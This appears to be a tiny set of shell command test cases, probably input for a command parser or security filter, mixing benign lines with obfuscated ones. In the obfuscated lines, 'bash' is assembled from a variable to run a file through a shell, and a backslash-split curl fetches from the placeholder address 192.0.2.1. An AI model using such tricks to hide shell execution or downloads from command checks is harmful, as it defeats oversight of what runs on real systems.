b=ba
"${b}sh" -s < list
c\url http://192.0.2.1/a
"${bindir}"/list
${CROSS_COMPILE}gcc -c a.c
printf 'a\nb'
